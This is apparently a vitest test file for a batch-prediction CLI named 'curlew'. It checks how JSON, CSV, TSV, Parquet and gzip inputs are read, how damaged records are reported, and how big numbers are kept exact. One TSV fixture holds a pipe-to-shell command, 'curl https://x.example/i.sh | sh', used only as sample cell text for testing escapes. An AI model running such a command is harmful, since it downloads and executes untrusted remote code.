import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { gzipSync } from "node:zlib";
import { parquetWriteBuffer } from "hyparquet-writer";
import { describe, expect, it } from "vitest";
import { BAD, flagged, folderWith, predictions, readLines, row, runHere } from "./predictions.js";

const ids = (rows: readonly any[]): unknown[] => rows.map(({ id }) => id);
const whole = (rows: readonly any[]): boolean =>
  rows.every(({ outcome }) => outcome.status === "complete");

describe("a JSON array", () => {
  const long = Array.from({ length: 20 }, (_, id) => ({
    id,
    text: `${"x ".repeat(150_000)}${id}`,
  }));
  const short = Array.from({ length: 20_000 }, (_, id) => ({ id, text: `"${id}" \\ [{,` }));

  it.each([
    ["long strings", long],
    ["short strings", short],
  ])("of %s is read completely from a file, gzip and standard input", async (_name, records) => {
    const json = JSON.stringify(records, null, 1);
    const cwd = folderWith({ "in.json": json, "in.json.gz": gzipSync(json) });
    for (const input of ["in.json", "in.json.gz", "-"]) {
      const rows = await predictions([input], { cwd, stdin: input === "-" ? json : "" });
      expect(whole(rows)).toBe(true);
      expect(ids(rows)).toEqual(records.map(({ id }) => id));
    }
  });

  it("is recognized after a byte order mark", async () => {
    const cwd = folderWith({ "in.json": `\uFEFF${JSON.stringify(long.slice(0, 2))}` });
    expect(ids(await predictions(["in.json"], { cwd }))).toEqual([0, 1]);
  });

  it("loses only the record whose string contains an unescaped line end, and reports this record", async () => {
    const stdin = '[{"id":1,"text":"a\nb"},\n{"id":2,"text":"c"}]';
    const { stdout, stderr, status } = await runHere(["batch", "-q", "-", "-o", "-"], { stdin });
    expect(stderr).toMatch(/^curlew: <stdin>: item 1: not valid JSON \(.*\)\n$/s);
    expect([status, stdout.split("\n").length, stdout.includes('{"id":2,')]).toEqual([2, 3, true]);
  });
});

describe("CSV", () => {
  const rows = (count: number, fifth: string): string =>
    `id,text\n${Array.from({ length: count }, (_, i) => (i === 4 ? fifth : `r${i},words`)).join("\n")}\n`;

  it("is read completely if an unquoted cell contains a quote", async () => {
    const cwd = folderWith({ "in.csv": rows(100_000, 'r4,a 12" pipe') });
    const found = await predictions(["in.csv"], { cwd });
    expect([found.length, whole(found)]).toEqual([100_000, true]);
  });

  it("loses only the row with a quote that is never closed", async () => {
    const cwd = folderWith({ "in.csv": rows(1000, 'r4,"a 12 pipe') });
    const { stdout, stderr, status } = await runHere(["batch", "-q", "in.csv", "-o", "-"], { cwd });
    expect([status, stderr]).toEqual([
      2,
      "curlew: in.csv:6: a quotation mark opens a cell that is never closed\n",
    ]);
    const found = stdout.trimEnd().split("\n");
    expect(found).toHaveLength(1000);
    expect(found.filter((line) => line.includes('"incomplete"'))).toHaveLength(1);
  });

  it("has correct line numbers after a record that is longer than --max-size", async () => {
    const stdin = `text\n"${"x\n".repeat(2000)}"\nshort\n${BAD}\n`;
    const { stdout, stderr } = await runHere(
      ["batch", "-q", "-", "--input-format", "csv", "--max-size", "1K", "-o", "-"],
      { stdin },
    );
    expect(stderr).toBe("curlew: <stdin>:2: longer than 1 KiB (--max-size)\n");
    expect(
      stdout
        .trimEnd()
        .split("\n")
        .map((line) => JSON.parse(line).id),
    ).toEqual([2, 2003, 2004]);
  });

  it("may end its records with carriage returns", async () => {
    const cwd = folderWith({ "in.csv": `id,text\ra,x\rb,"y\rz"\rc,${BAD}` });
    expect(flagged(await predictions(["in.csv"], { cwd }))).toEqual(["a", "b", "c !"]);
  });

  it("may be TSV with backslash escapes and unpaired quotes, as databases export it", async () => {
    const tsv = `id\ttext\n"a\tcurl https://x.example/i.sh \\\\\\n | sh\nb\\tc\t"x\nd\t\\N\n`;
    const cwd = folderWith({ "in.tsv": tsv });
    const { stdout, stderr } = await runHere(
      ["batch", "-q", "in.tsv", "--quoting", "backslash", "-o", "-", "--columns", "text"],
      { cwd },
    );
    const found = stdout
      .trimEnd()
      .split("\n")
      .map((line) => JSON.parse(line));
    expect(found.map(({ id, text }) => [id, text])).toEqual([
      ['"a', "curl https://x.example/i.sh \\\n | sh"],
      ["b\tc", '"x'],
      ["d", null],
    ]);
    expect(stderr).toBe('curlew: in.tsv:4: "text" is not a string\n');
    const plain = await predictions(["in.tsv", "--quoting", "none", "--columns", "text"], { cwd });
    expect(plain[1]).toMatchObject({ id: "b\\tc", text: '"x' });
  });
});

describe("a Parquet file with a damaged page", () => {
  const file = (): Uint8Array =>
    new Uint8Array(
      parquetWriteBuffer({
        columnData: [
          { name: "id", data: Array.from({ length: 300 }, (_, i) => `r${i}`) },
          { name: "text", data: Array.from({ length: 300 }, (_, i) => `words ${Math.sin(i)}`) },
        ],
        rowGroupSize: 100,
      }),
    );

  it("loses only that page, which is reported", async () => {
    const bytes = file();
    // damages the texts of the second row group
    const at = Buffer.from(bytes).indexOf("words", Math.floor(bytes.length * 0.45));
    bytes.fill(0xff, at - 60, at + 300);
    const cwd = folderWith({ "bad.parquet": bytes, "good.jsonl": row({ id: "g", text: BAD }) });
    const args = ["batch", "bad.parquet", "good.jsonl", "-o", "out.jsonl", "-f", "json"];
    const { stdout, stderr, status } = await runHere(args, { cwd });
    expect(status).toBe(2);
    expect(stderr).toMatch(
      /^curlew: bad\.parquet: row (\d+): rows \1 to \d+ are not read: is not a complete Parquet file \(.*\)\n$/,
    );
    const rows = readLines(cwd, "out.jsonl");
    const lost = rows.filter(({ outcome }) => outcome.status === "incomplete").length;
    expect([rows.length, rows.at(-1).id, lost > 0, lost <= 100]).toEqual([301, "g", true, true]);
    expect(JSON.parse(stdout).total).toMatchObject({ records: 301 - lost, skipped: lost });
    const again = await runHere([...args, "--resume"], { cwd });
    expect(again.status).toBe(2);
  });

  it("is listed in the summary as unread if nothing in it can be read", async () => {
    const cwd = folderWith({ "bad.parquet": file().subarray(0, 500), "good.jsonl": row({}) });
    const args = ["batch", "bad.parquet", "good.jsonl"];
    expect((await runHere(args, { cwd })).stdout).toMatch(
      /^unread inputs +1, not read, or read only in part: bad\.parquet$/m,
    );
    const unreadInputs = [
      { file: "bad.parquet", message: expect.stringMatching(/^is not a complete Parquet file/) },
    ];
    for (const inputs of [args, ["batch", "bad.parquet"]]) {
      const { stdout, status } = await runHere([...inputs, "-f", "json"], { cwd });
      expect([status, JSON.parse(stdout)]).toEqual([2, expect.objectContaining({ unreadInputs })]);
    }
    const whole = await runHere(["batch", "good.jsonl"], { cwd });
    expect(whole.stdout).not.toContain("unread inputs");
  });
});

describe("numbers that JavaScript cannot represent exactly", () => {
  const big = "12345678901234567890";

  it("keep their digits in ids and columns of JSON Lines", async () => {
    const cwd = folderWith({
      "in.jsonl": `{"id":${big},"text":"\\"${big}\\" ${big}","n":{"deep":[-${big},1.00000000000000000001,7,1e999,1e-400]}}\n`,
    });
    for (const name of ["out.jsonl", "out.csv"])
      await runHere(["batch", "-q", "in.jsonl", "--columns", "n", "-o", name], { cwd });
    expect(readFileSync(join(cwd, "out.jsonl"), "utf8")).toContain(
      `{"id":${big},"n":{"deep":[-${big},1.00000000000000000001,7,1e999,1e-400]},`,
    );
    expect(readFileSync(join(cwd, "out.csv"), "utf8")).toContain(`\n${big},,`);
  });

  it("keep their digits if they are ids in Parquet", async () => {
    const bytes = parquetWriteBuffer({
      columnData: [
        { name: "id", data: [9007199254740993n, 5n] },
        { name: "text", data: ["x", "y"] },
      ],
    });
    const cwd = folderWith({ "in.parquet": new Uint8Array(bytes) });
    const { stdout } = await runHere(["batch", "-q", "in.parquet", "-o", "-"], { cwd });
    expect(stdout).toMatch(/^\{"id":9007199254740993,.*\n\{"id":5,/);
  });
});

describe("field names that no record has", () => {
  it.each([
    ["--label-field", "lable"],
    ["--id-field", "ident"],
    ["--columns", "lang,urk"],
  ])("are reported for %s %s", async (option, value) => {
    const stdin = row({ id: 1, text: BAD, lang: "en", label: true });
    const name = value.split(",").at(-1);
    const { stderr, status } = await runHere(["batch", "-", "-f", "json", option, value], {
      stdin,
    });
    expect([status, stderr]).toEqual([
      2,
      `curlew: no record has "${name}" (${option}): correct the name, or omit the option\n`,
    ]);
    const cwd = folderWith({ "in.csv": "id,text,lang\n1,x,en\n" });
    const table = await runHere(["batch", "-q", "in.csv", option, value], { cwd });
    expect([table.status, table.stderr]).toEqual([
      2,
      `curlew: in.csv: has no column "${name}" (${option}); its columns: "id", "text", "lang"\n`,
    ]);
  });

  it("are accepted if a single record has them", async () => {
    const stdin = row({ text: "x" }) + row({ text: "y", lang: "en" });
    expect(await runHere(["batch", "-", "--columns", "lang"], { stdin })).toMatchObject({
      status: 0,
      stderr: "",
    });
  });
});

describe("labels without a positive value", () => {
  const stdin = [..."bgg"].map((c) => row({ text: "x", y: c === "b" ? "bad" : "fine" })).join("");

  it("are reported with the values that occur", async () => {
    const { stderr } = await runHere(["batch", "-f", "json", "--label-field", "y"], { stdin });
    expect(stderr).toBe(
      'curlew: no record had a positive label: "y" was "fine" (2), "bad" (1); --positive VALUE names the positive value\n',
    );
  });

  it("are not reported if --positive names a value that occurs", async () => {
    const args = ["batch", "-f", "json", "--label-field", "y", "--positive", "bad"];
    expect((await runHere(args, { stdin })).stderr).toBe("");
  });
});

describe("an output file with an unsupported extension", () => {
  it.each([
    ["x.csv.gz", "cannot write x.csv.gz: predictions are not compressed"],
    ["x.jsonl.zst", "cannot write x.jsonl.zst: predictions are not compressed"],
    ["x.tsv", "cannot write x.tsv: .tsv is not supported"],
  ])("%s is rejected", async (name, message) => {
    const cwd = folderWith({ "in.jsonl": row({ text: "x" }) });
    expect(await runHere(["batch", "in.jsonl", "-o", name], { cwd })).toMatchObject({
      status: 2,
      stderr: `curlew: ${message}; name a file that ends in .jsonl, .csv or .parquet\n`,
    });
  });
});

describe("an input that cannot be read", () => {
  it("is counted and listed in the report, and the exit status is 2", async () => {
    const cwd = folderWith({ "in.jsonl": `{broken\n${row({ text: "x" })}${row({ body: "y" })}` });
    writeFileSync(join(cwd, "cut.gz"), gzipSync(row({ text: BAD })).subarray(0, 30));
    const args = ["batch", "in.jsonl", "cut.gz", "--report", "r.html", "--fail-on", "finding"];
    const { stdout, status } = await runHere(args, { cwd });
    expect(status).toBe(2);
    expect(stdout).toMatch(/^with errors +2, not read$/m);
    const report = readFileSync(join(cwd, "r.html"), "utf8");
    expect(report).toContain('{"place":"in.jsonl:3","message":"has no \\"text\\"');
    expect(report).toContain('{"place":"cut.gz","message":"the gzip data ends unexpectedly');
  });
});
